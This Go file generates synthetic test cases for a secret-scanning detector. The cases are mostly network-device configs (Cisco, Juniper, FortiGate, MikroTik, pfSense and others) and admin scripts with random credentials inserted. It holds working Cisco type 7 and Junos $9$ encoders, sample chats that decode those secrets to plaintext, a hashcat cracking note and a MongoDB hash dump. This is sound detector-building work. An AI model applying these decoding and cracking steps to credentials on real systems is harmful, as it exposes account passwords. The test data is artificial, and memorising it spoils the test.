package cases

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"
)

// opsCases adds credentials in system and network administration and
// security operations, the way a coding agent sees them when it helps an
// administrator or a security engineer: network devices (Cisco IOS,
// NX-OS, ASA and WLC, Juniper, FortiGate, MikroTik, pfSense and OPNsense,
// Ubiquiti, HP and Aruba) with their device-specific encodings (Cisco
// type 7, Juniper $9$, FortiOS ENC), VPNs and routing (WireGuard,
// OpenVPN, strongSwan and Libreswan, FreeRADIUS, keepalived, FRR and BIRD
// session keys); Windows and Active Directory (PowerShell credentials,
// net and cmdkey, unattend.xml, Group Policy Preferences, LAPS, RDP
// files, WinRM, LDAP, Kerberos, Samba and CIFS mounts, BitLocker);
// Linux servers (shadow and htpasswd files, client dot-files, mail
// relays, SSH, sudo and cron, systemd units, backup tools, Wi-Fi
// supplicants); out-of-band and virtualization management (IPMI, iDRAC,
// iLO, Redfish, vSphere, ESXi, Proxmox, libvirt, Ceph, XenServer,
// Nutanix, Veeam); security tooling output (secretsdump, Responder,
// Kerberoasting and AS-REP roasting, hashcat and John, mimikatz, hydra,
// medusa, NetExec, sqlmap, Burp, nmap NSE, password spraying, jwt_tool,
// LaZagne); secret stores (Vault, Boundary, CyberArk, Secret Server,
// 1Password, Bitwarden, KeePassXC); monitoring (Nagios, Icinga, Zabbix,
// Prometheus, SNMP, LibreNMS, Grafana) and the chats, tickets and
// runbooks around them.
//
// Password hashes: a hash of a password is marked a secret where a
// cracker could use it, which is every hash of a chosen password that
// leaks from where only the system should read it: NT and LM hashes,
// NetNTLMv2 responses, Kerberos TGS and AS-REP blobs, DCC2, and also the
// one-way crypt(3) hashes of /etc/shadow, htpasswd and device configs
// (Cisco types 5, 8 and 9, ASA, NX-OS $5$, Junos $6$, FortiOS SH2,
// bcrypt), since offline guessing recovers the chosen passwords people
// use on these devices whatever the KDF. Reversible encodings (Cisco
// type 7, Juniper $9$, FortiOS ENC, GPP cpassword, unattend.xml Values,
// DPAPI blobs, SSSD's obfuscated_password) are secrets without question.
// Left benign: locked-account markers (*, !, !!), the empty-password LM
// and NT constants, masked and removed values, the factory "public"
// SNMP community on lab gear (it is printed on every datasheet and keeps
// nothing out), placeholders and references. The case names start with
// "ops/".
func (g *G) opsCases() {
	g.opsCisco()
	g.opsNetDevices()
	g.opsVPN()
	g.opsWindows()
	g.opsLinux()
	g.opsServers()
	g.opsOffense()
	g.opsVaults()
	g.opsMonitoring()
	g.opsChat()
	g.opsBenign()
}

// ---- helpers used only here ----

// opsCryptAl is the crypt(3) base64 alphabet.
const opsCryptAl = "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"

// opsXlat is the published translation table of Cisco IOS type 7.
const opsXlat = "dsfd;kfoA,.iyewrkldJKDHSUBsgvca69834ncxv9873254k;fg87"

// opsType7 encodes pw as Cisco IOS "password 7" does from seed (0-15).
func opsType7(pw string, seed int) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%02d", seed)
	for i := 0; i < len(pw); i++ {
		fmt.Fprintf(&b, "%02X", pw[i]^opsXlat[(seed+i)%len(opsXlat)])
	}
	return b.String()
}

func (g *G) opsT7(pw string) string { return opsType7(pw, g.r.IntN(16)) }

// opsJunFamily and opsJunEnc are Junos' $9$ alphabet families and gap
// encodings.
var (
	opsJunFamily = []string{"QzF3n6/9CAtpu0O", "B1IREhcSyrleKvMW8LXx", "7N-dVbwsY2g4oaJZGUDj", "iHkq.mPf5T"}
	opsJunEnc    = [][]int{{1, 4, 32}, {1, 16, 32}, {1, 8, 32}, {1, 64}, {1, 32}, {1, 4, 16, 128}, {1, 32, 64}}
)

// opsJun9 encodes pw as a Junos "$9$" secret.
func (g *G) opsJun9(pw string) string {
	alpha := strings.Join(opsJunFamily, "")
	extra := func(c byte) int {
		for i, f := range opsJunFamily {
			if strings.IndexByte(f, c) >= 0 {
				return 3 - i
			}
		}
		return 0
	}
	salt := alpha[g.r.IntN(len(alpha))]
	out := []byte("$9$")
	out = append(out, salt)
	for i := 0; i < extra(salt); i++ {
		out = append(out, alpha[g.r.IntN(len(alpha))])
	}
	prev := salt
	for pos := 0; pos < len(pw); pos++ {
		enc := opsJunEnc[pos%len(opsJunEnc)]
		ord := int(pw[pos])
		gaps := make([]int, len(enc))
		for j := len(enc) - 1; j >= 0; j-- {
			gaps[j] = ord / enc[j]
			ord %= enc[j]
		}
		for _, gap := range gaps {
			gap += strings.IndexByte(alpha, prev) + 1
			prev = alpha[gap%len(alpha)]
			out = append(out, prev)
		}
	}
	return string(out)
}

// opsHuman is a password an administrator picks.
func (g *G) opsHuman() string {
	switch g.r.IntN(4) {
	case 0:
		return g.pick(pwWords...) + g.pick(pwWords...) + g.s(alDigit, 2+g.r.IntN(2)) + g.pick("!", "#", "*", ".", "-", "_", "@", "%")
	case 1:
		return g.opsSeason()
	case 2:
		return g.pick(pwWords...) + "@" + g.s(alDigit, 4)
	default:
		return g.pick("Acme", "Netw0rk", "Adm1n", "Welcome", "Sw1tch", "R0uter", "Backup", "Corp") + g.s(alDigit, 2+g.r.IntN(3)) + g.pick("!", "#", "*", ".")
	}
}

// opsSeason is a season-and-year password, the spraying favourite.
func (g *G) opsSeason() string {
	return g.pick("Spring", "Summer", "Autumn", "Fall", "Winter") + g.pick("2022", "2023", "2024", "2025") + g.pick("!", "#", "*", "", "!!")
}

// opsGen is a generated password as a password manager makes it.
func (g *G) opsGen(n int) string { return g.s(alAlnum+"!#%*+-.=@^_~", n) }

// opsCommunity is an SNMP community someone chose.
func (g *G) opsCommunity() string {
	if g.r.IntN(2) == 0 {
		return g.an(12 + g.r.IntN(8))
	}
	return g.pick("acme", "netops", "mon", "nms", "dc1") + g.pick("-ro-", "_rw_", "Ro", "RW") + g.s(alLowNum, 6)
}

// opsPSK is an IPsec or RADIUS pre-shared key.
func (g *G) opsPSK() string {
	switch g.r.IntN(3) {
	case 0:
		return g.an(32)
	case 1:
		return g.s(alAlnum+"!#%*+-.=@^_", 28+g.r.IntN(12))
	default:
		return g.pick(pwWords...) + "-" + g.pick(pwWords...) + "-" + g.pick(pwWords...) + "-" + g.s(alDigit, 4)
	}
}

func (g *G) opsMD5Crypt(salt int) string {
	return "$1$" + g.s(opsCryptAl, salt) + "$" + g.s(opsCryptAl, 22)
}
func (g *G) opsCisco8() string      { return "$8$" + g.s(opsCryptAl, 14) + "$" + g.s(opsCryptAl, 43) }
func (g *G) opsCisco9() string      { return "$9$" + g.s(opsCryptAl, 14) + "$" + g.s(opsCryptAl, 43) }
func (g *G) opsSHA256Crypt() string { return "$5$" + g.s(opsCryptAl, 16) + "$" + g.s(opsCryptAl, 43) }
func (g *G) opsYescrypt() string    { return "$y$j9T$" + g.s(opsCryptAl, 22) + "$" + g.s(opsCryptAl, 43) }

// opsType6 is Cisco's AES-encrypted "6" form.
func (g *G) opsType6() string {
	return g.s("ABCDEFGHIJKLMNOPQRSTUVWXYZ[]^_abcdefghij", 28+2*g.r.IntN(6)) + "AAB"
}

// opsSID is a domain SID without its RID.
func (g *G) opsSID() string {
	return "S-1-5-21-" + g.digits(10) + "-" + g.digits(10) + "-" + g.digits(9)
}

func (g *G) opsMAC(sep string) string {
	p := make([]string, 6)
	for i := range p {
		p[i] = g.hex(2)
	}
	return strings.Join(p, sep)
}

// opsLAPS is a LAPS-generated local administrator password.
func (g *G) opsLAPS() string { return g.s(alAlnum+"!#%+,-./:=@[]_{}", 14+g.r.IntN(7)) }

// opsUTF16B64 is base64 of s in UTF-16LE, as unattend.xml stores a
// password with PlainText false (the password then the element name).
func opsUTF16B64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// opsDPAPI is a DPAPI blob in upper-case hex.
func (g *G) opsDPAPI(n int) string {
	return "01000000D08C9DDF0115D1118C7A00C04FC297EB01000000" + g.s(alHexU, n)
}

// opsOVPNKey is an OpenVPN static key file's body.
func (g *G) opsOVPNKey() string {
	l := make([]string, 16)
	for i := range l {
		l[i] = g.hex(32)
	}
	return strings.Join(l, "\n")
}

// opsCpassword is a Group Policy Preferences cpassword: AES-256 output in
// base64 without padding.
func (g *G) opsCpassword() string {
	return strings.TrimRight(g.b64(16*(2+g.r.IntN(3))), "=")
}

// opsFortiENC is a FortiOS "ENC" value for a reversible secret.
func (g *G) opsFortiENC() string { return g.b64(4 + 16*(3+g.r.IntN(4))) }

// opsFortiSH2 is a FortiOS administrator password hash.
func (g *G) opsFortiSH2() string { return "SH2" + g.b64(44) }

// opsBitLocker is a BitLocker recovery password.
func (g *G) opsBitLocker() string {
	p := make([]string, 8)
	for i := range p {
		p[i] = fmt.Sprintf("%06d", 11*g.r.IntN(65536))
	}
	return strings.Join(p, "-")
}

// opsCeph is a Ceph auth key.
func (g *G) opsCeph() string {
	b := append([]byte{0x01, 0x00}, g.bytes(26)...)
	return base64.StdEncoding.EncodeToString(b)
}

// opsGUIDU is an upper-case braced GUID.
func (g *G) opsGUIDU() string { return "{" + strings.ToUpper(g.uuid()) + "}" }

// ---- Cisco IOS, IOS XE, NX-OS, ASA and wireless controllers ----

func (g *G) opsCisco() {
	g.add("ops/cisco-ios-running-config-aaa", `
$ ssh netadmin@10.10.0.1 'show running-config' | sed -n '1,48p'
Building configuration...

Current configuration : 8123 bytes
!
version 15.2
service timestamps debug datetime msec
service password-encryption
!
hostname «_h»
!
enable secret 9 «a»
!
username netadmin privilege 15 secret 9 «b»
username backup privilege 5 password 7 «c»
!
aaa new-model
aaa authentication login default group tacacs+ local
!
tacacs server ISE-01
 address ipv4 10.10.5.20
 key 7 «d»
!
snmp-server community «e» RO 10
snmp-server community «f» RW 11
snmp-server location DC1 Row 4 Rack 12
!
line vty 0 4
 password 7 «g»
 transport input ssh
`, V{"_h": "sw-core-" + g.s(alDigit, 2), "a": g.opsCisco9(), "b": g.opsCisco9(), "c": g.opsT7(g.opsHuman()),
		"d": g.opsT7(g.opsPSK()), "e": g.opsCommunity(), "f": g.opsCommunity(), "g": g.opsT7(g.opsHuman())},
		"snmp-server location DC1 Row 4 Rack 12", "transport input ssh", "aaa authentication login default group tacacs+ local")

	t7pw := g.opsHuman()
	g.add("ops/cisco-type7-decode-chat", `
user: found this on the old branch router before we wipe it, can you tell me what the password was so I can check if it's reused anywhere?

    username admin privilege 15 password 7 «a»

assistant: Type 7 is only an obfuscation (a fixed XOR table), not a hash, so it decodes directly. The first two digits are the offset into the table, the rest is hex. That one decodes to:

    «b»

If that password is used anywhere else, rotate it, and on the new router use "username admin privilege 15 algorithm-type scrypt secret ..." instead of type 7.
`, V{"a": g.opsT7(t7pw), "b": t7pw}, "algorithm-type scrypt")

	g.add("ops/cisco-ios-isakmp-keyring", `
crypto isakmp policy 10
 encr aes 256
 hash sha256
 authentication pre-share
 group 14
crypto isakmp key «a» address 203.0.113.45
!
crypto keyring BRANCH-KR
 pre-shared-key address 198.51.100.9 key «b»
!
crypto ipsec transform-set TS-AES256 esp-aes 256 esp-sha256-hmac
 mode tunnel
!
crypto map VPN-MAP 10 ipsec-isakmp
 set peer 203.0.113.45
 set transform-set TS-AES256
 match address ACL-VPN-HQ
`, V{"a": g.opsPSK(), "b": g.opsPSK()}, "crypto ipsec transform-set TS-AES256 esp-aes 256 esp-sha256-hmac", "match address ACL-VPN-HQ")

	g.add("ops/cisco-ikev2-keyring-azure", `
crypto ikev2 proposal AZURE-PROP
 encryption aes-cbc-256
 integrity sha256
 group 14
!
crypto ikev2 keyring AZURE-KR
 peer azure-vpngw
  address 20.61.«=o3».«=o4»
  pre-shared-key «a»
!
crypto ikev2 profile AZURE-PROFILE
 match address local interface GigabitEthernet1
 match identity remote address 20.61.«=o3».«=o4» 255.255.255.255
 authentication remote pre-share
 authentication local pre-share
 keyring local AZURE-KR
`, V{"=o3": fmt.Sprint(g.r.IntN(255)), "=o4": fmt.Sprint(1 + g.r.IntN(254)), "a": g.an(32)}, "keyring local AZURE-KR", "match address local interface GigabitEthernet1")

	g.add("ops/cisco-radius-server-blocks", `
radius server ISE-PSN1
 address ipv4 10.20.1.11 auth-port 1812 acct-port 1813
 key «a»
radius server ISE-PSN2
 address ipv4 10.20.1.12 auth-port 1812 acct-port 1813
 key 7 «b»
!
aaa group server radius ISE
 server name ISE-PSN1
 server name ISE-PSN2
 ip radius source-interface Vlan100
!
dot1x system-auth-control
`, V{"a": g.opsPSK(), "b": g.opsT7(g.opsPSK()[:20])}, "ip radius source-interface Vlan100", "dot1x system-auth-control")

	g.add("ops/cisco-routing-protocol-keys", `
interface GigabitEthernet0/0/1
 description uplink-core-2
 ip address 10.255.0.2 255.255.255.252
 ip ospf authentication message-digest
 ip ospf message-digest-key 1 md5 7 «a»
!
key chain EIGRP-KEYS
 key 1
  key-string 7 «c»
  accept-lifetime 00:00:00 Jan 1 2024 infinite
!
router bgp 65010
 bgp log-neighbor-changes
 neighbor 192.0.2.1 remote-as 64512
 neighbor 192.0.2.1 description ISP-A transit
 neighbor 192.0.2.1 password 7 «b»
`, V{"a": g.opsT7(g.an(12)), "c": g.opsT7(g.an(14)), "b": g.opsT7(g.opsHuman())}, "description uplink-core-2", "neighbor 192.0.2.1 description ISP-A transit")

	g.add("ops/cisco-nxos-show-run-include", `
n9k-leaf-03# show running-config | include username|snmp-server user|tacacs
username admin password 5 «a»  role network-admin
username svc-backup password 5 «b»  role network-operator
snmp-server user admin network-admin auth md5 0x«c» priv 0x«d» localizedkey
snmp-server user librenms network-operator auth sha 0x«e» priv aes-128 0x«f» localizedkey
tacacs-server key 7 "«g»"
tacacs-server host 10.30.0.5 key 7 "«h»"
`, V{"a": g.opsSHA256Crypt(), "b": g.opsSHA256Crypt(), "c": g.hex(32), "d": g.hex(32), "e": g.hex(40), "f": g.hex(32),
		"g": g.s(alLower+alDigit, 16), "h": g.s(alLower+alDigit, 18)}, "role network-operator", "n9k-leaf-03#")

	asaPSK := g.opsPSK()
	g.add("ops/cisco-asa-show-run-then-more-system", `
asa-edge-01# show running-config tunnel-group 203.0.113.77
tunnel-group 203.0.113.77 type ipsec-l2l
tunnel-group 203.0.113.77 ipsec-attributes
 ikev2 remote-authentication pre-shared-key *****
 ikev2 local-authentication pre-shared-key *****
asa-edge-01# more system:running-config | begin tunnel-group 203.0.113.77
tunnel-group 203.0.113.77 type ipsec-l2l
tunnel-group 203.0.113.77 ipsec-attributes
 ikev2 remote-authentication pre-shared-key «a»
 ikev2 local-authentication pre-shared-key «a»
`, V{"a": asaPSK}, "pre-shared-key *****", "tunnel-group 203.0.113.77 type ipsec-l2l")

	g.add("ops/cisco-asa-enable-and-local-users", `
ASA Version 9.16(4)
!
hostname asa-edge-01
enable password «a» encrypted
passwd «b» encrypted
names
!
username admin password «c» pbkdf2 privilege 15
username vpn.jdoe password «d» encrypted
username vpn.jdoe attributes
 vpn-group-policy GP-REMOTE
`, V{"a": g.s(opsCryptAl, 16), "b": g.s(opsCryptAl, 16),
		"c": "$sha512$5000$" + g.b64(16) + "$" + g.b64(16), "d": g.s(opsCryptAl, 16)}, "vpn-group-policy GP-REMOTE", "ASA Version 9.16(4)")

	g.add("ops/cisco-asa-ldap-aaa-server", `
aaa-server AD-LDAP protocol ldap
aaa-server AD-LDAP (inside) host 10.1.1.10
 ldap-base-dn dc=acme,dc=local
 ldap-scope subtree
 ldap-naming-attribute sAMAccountName
 ldap-login-password «a»
 ldap-login-dn cn=svc-asa-ldap,ou=Service Accounts,dc=acme,dc=local
 server-type microsoft
`, V{"a": g.opsGen(20)}, "cn=svc-asa-ldap,ou=Service Accounts,dc=acme,dc=local", "ldap-naming-attribute sAMAccountName")

	g.add("ops/cisco-wlc-wlan-psk", `
! Catalyst 9800-CL
wlan ACME-IOT 4 ACME-IOT
 no security wpa akm dot1x
 security wpa akm psk
 security wpa psk set-key ascii 0 «a»
 no shutdown
!
(Cisco Controller) >config wlan security wpa akm psk set-key ascii «b» 2
(Cisco Controller) >config wlan enable 2
`, V{"a": g.opsHuman() + g.s(alDigit, 2), "b": g.opsPSK()}, "wlan ACME-IOT 4 ACME-IOT", "(Cisco Controller) >config wlan enable 2")

	g.add("ops/cisco-snmpv3-user-config-session", `
R1#conf t
Enter configuration commands, one per line.  End with CNTL/Z.
R1(config)#snmp-server group NMS-GRP v3 priv
R1(config)#snmp-server user librenms NMS-GRP v3 auth sha «a» priv aes 128 «b»
R1(config)#end
R1#show snmp user

User name: librenms
Engine ID: 800000090300«_e»
storage-type: nonvolatile        active
Authentication Protocol: SHA
Privacy Protocol: AES128
Group-name: NMS-GRP
`, V{"a": g.opsGen(16), "b": g.opsGen(16), "_e": g.s(alHexU, 12)}, "Group-name: NMS-GRP")

	g.add("ops/cisco-ansible-ios-config-task", `
- name: Local fallback account on all access switches
  hosts: access_switches
  gather_facts: false
  vars:
    ansible_connection: ansible.netcommon.network_cli
    ansible_network_os: cisco.ios.ios
    ansible_user: netadmin
    ansible_password: «a»
    ansible_become: true
    ansible_become_method: enable
    ansible_become_password: «b»
  tasks:
    - cisco.ios.ios_config:
        lines:
          - username breakglass privilege 15 algorithm-type scrypt secret 0 «c»
`, V{"a": g.opsHuman(), "b": g.opsHuman(), "c": g.opsGen(22)}, "ansible_network_os: cisco.ios.ios", "hosts: access_switches")

	g.add("ops/cisco-netmiko-backup-script", `
from netmiko import ConnectHandler

SWITCHES = ["10.10.0.11", "10.10.0.12", "10.10.0.13"]

for host in SWITCHES:
    dev = {
        "device_type": "cisco_ios",
        "host": host,
        "username": "netadmin",
        "password": "«a»",
        "secret": "«b»",
    }
    with ConnectHandler(**dev) as conn:
        conn.enable()
        cfg = conn.send_command("show running-config")
        open(f"backups/{host}.cfg", "w").write(cfg)
`, V{"a": g.opsHuman(), "b": g.opsHuman()}, `"device_type": "cisco_ios"`, `open(f"backups/{host}.cfg", "w")`)

	g.add("ops/cisco-archive-config-differences", `
R2#show archive config differences nvram:startup-config system:running-config
!Contextual Config Diffs:
+username helpdesk privilege 7 secret 8 «a»
-username helpdesk privilege 7 password 7 «b»
+ntp authentication-key 10 md5 «c» 7
+ntp trusted-key 10
`, V{"a": g.opsCisco8(), "b": g.opsT7(g.opsHuman()), "c": g.opsT7(g.an(10))}, "+ntp trusted-key 10")

	t5 := g.opsMD5Crypt(4)
	g.add("ops/cisco-type5-cracked-ticket-note", `
SEC-2291 | Legacy enable secrets found in config archive
Status: In progress   Assignee: m.osei

The 2019 backups under /srv/rancid/branch-routers still carry
    enable secret 5 «a»
hashcat -m 500 against rockyou + rules recovered it in 40 s:
    «a»:«b»
Same value is the enable secret on 14 branch routers (list attached). Rotating tonight.
`, V{"a": t5, "b": g.opsHuman()}, "/srv/rancid/branch-routers", "hashcat -m 500")

	g.add("ops/cisco-hsrp-vrrp-auth", `
interface Vlan20
 ip address 10.20.0.2 255.255.255.0
 standby version 2
 standby 20 ip 10.20.0.1
 standby 20 priority 110
 standby 20 authentication md5 key-string 7 «a»
!
interface Vlan30
 ip address 10.30.0.2 255.255.255.0
 vrrp 30 ip 10.30.0.1
 vrrp 30 authentication text «b»
`, V{"a": g.opsT7(g.an(12)), "b": g.an(8)}, "standby 20 priority 110", "vrrp 30 ip 10.30.0.1")

	g.add("ops/cisco-dialer-pppoe-chap", `
interface Dialer1
 ip address negotiated
 encapsulation ppp
 dialer pool 1
 ppp authentication chap pap callin
 ppp chap hostname acme-branch7@dsl.example-isp.net
 ppp chap password 7 «a»
 ppp pap sent-username acme-branch7@dsl.example-isp.net password 7 «b»
`, V{"a": g.opsT7(g.an(10)), "b": g.opsT7(g.an(10))}, "ppp chap hostname acme-branch7@dsl.example-isp.net")

	g.add("ops/cisco-meraki-dashboard-api-ssid", `
$ curl -s -X PUT "https://api.meraki.com/api/v1/networks/L_«_n»/wireless/ssids/3" \
    -H "X-Cisco-Meraki-API-Key: «a»" \
    -H "Content-Type: application/json" \
    -d '{"name": "Acme-Guest", "enabled": true, "authMode": "psk", "encryptionMode": "wpa", "psk": "«b»"}'
{"number":3,"name":"Acme-Guest","enabled":true,"authMode":"psk","psk":"«b»","ipAssignmentMode":"NAT mode"}
`, V{"_n": g.digits(18), "a": g.hex(40), "b": g.opsHuman()}, `"ipAssignmentMode":"NAT mode"`)

	g.add("ops/cisco-ise-ers-api-curl", `
$ curl -sk -u ersadmin:«a» -H 'Accept: application/json' \
    https://ise-pan01.acme.local:9060/ers/config/networkdevice?size=5 | jq '.SearchResult.total'
212
$ curl -sk -u ersadmin:«a» -X POST -H 'Content-Type: application/json' \
    https://ise-pan01.acme.local:9060/ers/config/networkdevice -d @- <<'EOF'
{"NetworkDevice": {"name": "sw-acc-114", "NetworkDeviceIPList": [{"ipaddress": "10.114.0.2", "mask": 32}],
 "authenticationSettings": {"radiusSharedSecret": "«b»", "enableKeyWrap": false}}}
EOF
`, V{"a": g.opsHuman(), "b": g.opsPSK()}, "https://ise-pan01.acme.local:9060/ers/config/networkdevice?size=5", `"name": "sw-acc-114"`)

	g.add("ops/cisco-tacacs-legacy-and-line-con", `
tacacs-server host 10.10.5.21
tacacs-server key «a»
!
line con 0
 exec-timeout 5 0
 password «b»
 login
line aux 0
 no exec
`, V{"a": g.opsPSK(), "b": g.opsHuman()}, "exec-timeout 5 0")
}

// ---- Juniper, FortiGate, MikroTik, pfSense, OPNsense, Ubiquiti, HP/Aruba ----

func (g *G) opsNetDevices() {
	g.add("ops/juniper-set-config-secrets", `
netops@srx-hq> show configuration | display set | match "secret|password|authentication|community"
set system root-authentication encrypted-password "«a»"
set system login user netops uid 2001
set system login user netops class super-user
set system login user netops authentication encrypted-password "«b»"
set system radius-server 10.0.0.15 secret "«c»"
set snmp community «d» authorization read-only
set protocols ospf area 0.0.0.0 interface ge-0/0/1.0 authentication md5 1 key "«e»"
set protocols bgp group ebgp-isp neighbor 198.51.100.1 authentication-key "«f»"
`, V{"a": g.apSHA512Crypt(), "b": g.apSHA512Crypt(), "c": g.opsJun9(g.opsPSK()), "d": g.opsCommunity(),
		"e": g.opsJun9(g.an(12)), "f": g.opsJun9(g.opsHuman())}, "set system login user netops class super-user", "ge-0/0/1.0")

	g.add("ops/juniper-ike-policy-hierarchical", `
security {
    ike {
        proposal ike-prop-aes256 {
            authentication-method pre-shared-keys;
            dh-group group14;
            authentication-algorithm sha-256;
            encryption-algorithm aes-256-cbc;
        }
        policy ike-pol-branch12 {
            mode main;
            proposals ike-prop-aes256;
            pre-shared-key ascii-text "«a»"; ## SECRET-DATA
        }
        gateway gw-branch12 {
            ike-policy ike-pol-branch12;
            address 203.0.113.112;
            external-interface ge-0/0/0.0;
        }
    }
}
`, V{"a": g.opsJun9(g.opsPSK())}, "external-interface ge-0/0/0.0;", "dh-group group14;")

	j9pw := g.opsHuman()
	g.add("ops/juniper-9-decode-chat", `
user: what is this in plain text? it's from the MX's radius config and nobody remembers what we set on the RADIUS side
  secret "«a»"; ## SECRET-DATA
assistant: Junos $9$ values are reversible (the salt character picks the offset and each plaintext character becomes a gap in a fixed alphabet). Decoding it locally with a junos-decrypt script gives:

    «b»

That is what the RADIUS server needs as the shared secret for this client.
`, V{"a": g.opsJun9(j9pw), "b": j9pw}, "junos-decrypt")

	g.add("ops/juniper-snmpv3-plaintext-then-commit", `
[edit]
netops@ex4300-b2# set snmp v3 usm local-engine user nms authentication-sha authentication-password «a»
netops@ex4300-b2# set snmp v3 usm local-engine user nms privacy-aes128 privacy-password «b»
netops@ex4300-b2# commit and-quit
configuration check succeeds
commit complete
Exiting configuration mode
netops@ex4300-b2> show configuration snmp v3 usm
local-engine {
    user nms {
        authentication-sha {
            authentication-key "«c»"; ## SECRET-DATA
        }
        privacy-aes128 {
            privacy-key "«d»"; ## SECRET-DATA
        }
    }
}
`, V{"a": g.opsGen(16), "b": g.opsGen(16), "c": g.opsJun9(g.hex(40)), "d": g.opsJun9(g.hex(32))}, "configuration check succeeds")

	g.add("ops/fortigate-config-admin-vpn-ldap", `
config system admin
    edit "admin"
        set accprofile "super_admin"
        set vdom "root"
        set password ENC «a»
    next
end
config vpn ipsec phase1-interface
    edit "to-branch-02"
        set interface "wan1"
        set peertype any
        set net-device disable
        set proposal aes256-sha256
        set remote-gw 203.0.113.90
        set psksecret ENC «b»
    next
end
config user ldap
    edit "AD-LDAP"
        set server "10.1.1.10"
        set cnid "sAMAccountName"
        set dn "dc=acme,dc=local"
        set type regular
        set username "cn=svc-fgt,ou=Service Accounts,dc=acme,dc=local"
        set password ENC «c»
    next
end
`, V{"a": g.opsFortiSH2(), "b": g.opsFortiENC(), "c": g.opsFortiENC()}, `set accprofile "super_admin"`, "set remote-gw 203.0.113.90")

	g.add("ops/fortigate-cli-script-plaintext", `
# paste into the FortiGate CLI (new branch tunnel + local VPN user)
config vpn ipsec phase1-interface
    edit "to-branch-07"
        set interface "port1"
        set ike-version 2
        set remote-gw 198.51.100.70
        set psksecret «a»
    next
end
config user local
    edit "vpn.mkowalski"
        set type password
        set passwd «b»
        set two-factor fortitoken
    next
end
`, V{"a": g.opsPSK(), "b": g.opsHuman()}, "set two-factor fortitoken", `edit "to-branch-07"`)

	g.add("ops/fortigate-rest-api-token", `
$ export FGT=https://fgt-hq.acme.local
$ curl -sk -H "Authorization: Bearer «a»" "$FGT/api/v2/cmdb/firewall/address?vdom=root" | jq '.results | length'
418
$ curl -sk "$FGT/api/v2/monitor/system/status?access_token=«a»" | jq -r .version
v7.2.8
`, V{"a": g.an(30)}, "api/v2/cmdb/firewall/address?vdom=root", "v7.2.8")

	wgPriv, _ := g.wireguard()
	_, wgPeerPub := g.wireguard()
	g.add("ops/mikrotik-export-show-sensitive", `
[admin@rb5009-hq] > /export show-sensitive
# 2024-06-03 10:12:44 by RouterOS 7.14.3
# software id = «_sid»
#
/interface wireguard
add listen-port=13231 mtu=1420 name=wg-site private-key="«a»"
/interface wireguard peers
add allowed-address=10.99.0.2/32 interface=wg-site public-key="«_p»" preshared-key="«b»"
/interface wifi security
add authentication-types=wpa2-psk,wpa3-psk name=sec-office passphrase="«c»"
/ppp secret
add name=vpn-jdoe password=«d» profile=vpn-profile service=l2tp
/snmp community
set [ find default=yes ] disabled=yes
add addresses=10.10.0.0/24 name=«e»
`, V{"_sid": g.s(alUpNum, 4) + "-" + g.s(alUpNum, 4), "a": wgPriv, "_p": wgPeerPub, "b": g.b64(32), "c": g.opsHuman(),
		"d": g.opsHuman(), "e": g.opsCommunity()}, "RouterOS 7.14.3", "allowed-address=10.99.0.2/32")

	g.add("ops/mikrotik-provision-ssh-script", `
#!/bin/sh
# provision a new hAP for a home office
R=192.168.88.1
ssh admin@$R '/user set admin password="«a»"'
ssh admin@$R '/user add name=monitor group=read password="«b»"'
ssh admin@$R '/ip ipsec peer add name=hq address=203.0.113.10 exchange-mode=ike2'
ssh admin@$R '/ip ipsec identity add peer=hq auth-method=pre-shared-key secret="«c»"'
`, V{"a": g.opsGen(18), "b": g.opsHuman(), "c": g.opsPSK()}, "exchange-mode=ike2", "# provision a new hAP for a home office")

	g.add("ops/pfsense-config-xml", `
<?xml version="1.0"?>
<pfsense>
	<version>23.3</version>
	<system>
		<user>
			<name>admin</name>
			<descr><![CDATA[System Administrator]]></descr>
			<scope>system</scope>
			<groupname>admins</groupname>
			<bcrypt-hash>«a»</bcrypt-hash>
			<uid>0</uid>
		</user>
	</system>
	<ipsec>
		<phase1>
			<ikeid>1</ikeid>
			<remote-gateway>203.0.113.9</remote-gateway>
			<authentication_method>pre_shared_key</authentication_method>
			<pre-shared-key>«b»</pre-shared-key>
		</phase1>
	</ipsec>
	<openvpn>
		<openvpn-server>
			<vpnid>1</vpnid>
			<mode>server_tls_user</mode>
			<tls>«c»</tls>
			<tls_type>auth</tls_type>
		</openvpn-server>
	</openvpn>
</pfsense>
`, V{"a": g.apBcrypt("10"), "b": g.opsPSK(),
		"c": b64s("#\n# 2048 bit OpenVPN static key\n#\n-----BEGIN OpenVPN Static key V1-----\n" + g.opsOVPNKey() + "\n-----END OpenVPN Static key V1-----\n")},
		"<mode>server_tls_user</mode>", "<remote-gateway>203.0.113.9</remote-gateway>")

	g.add("ops/opnsense-config-apikeys-ldap", `
      <user>
        <name>root</name>
        <descr>System Administrator</descr>
        <scope>system</scope>
        <password>«a»</password>
        <apikeys>
          <item>
            <key>«=k»</key>
            <secret>«b»</secret>
          </item>
        </apikeys>
      </user>
    <authserver>
      <refid>«_r»</refid>
      <type>ldap</type>
      <name>AD</name>
      <host>10.1.1.10</host>
      <ldap_binddn>CN=svc-opn,OU=Service Accounts,DC=acme,DC=local</ldap_binddn>
      <ldap_bindpw>«c»</ldap_bindpw>
    </authserver>
`, V{"a": g.apBcrypt("10"), "=k": g.s(alB64, 80), "b": g.apSHA512Crypt(), "_r": g.hex(13), "c": g.opsGen(20)},
		"CN=svc-opn,OU=Service Accounts,DC=acme,DC=local")

	g.add("ops/unifi-mongo-admin-and-wlan", `
$ mongo --quiet --port 27117 ace --eval 'db.admin.find({}, {name: 1, x_shadow: 1}).forEach(printjson)'
{ "_id" : ObjectId("«_o1»"), "name" : "admin", "x_shadow" : "«a»" }
{ "_id" : ObjectId("«_o2»"), "name" : "helpdesk", "x_shadow" : "«b»" }
$ mongo --quiet --port 27117 ace --eval 'db.wlanconf.find({}, {name: 1, security: 1, x_passphrase: 1}).forEach(printjson)'
{ "_id" : ObjectId("«_o3»"), "name" : "Acme-Staff", "security" : "wpapsk", "x_passphrase" : "«c»" }
`, V{"_o1": g.hex(24), "a": g.apSHA512Crypt(), "_o2": g.hex(24), "b": g.apSHA512Crypt(), "_o3": g.hex(24), "c": g.opsHuman()},
		`"security" : "wpapsk"`)

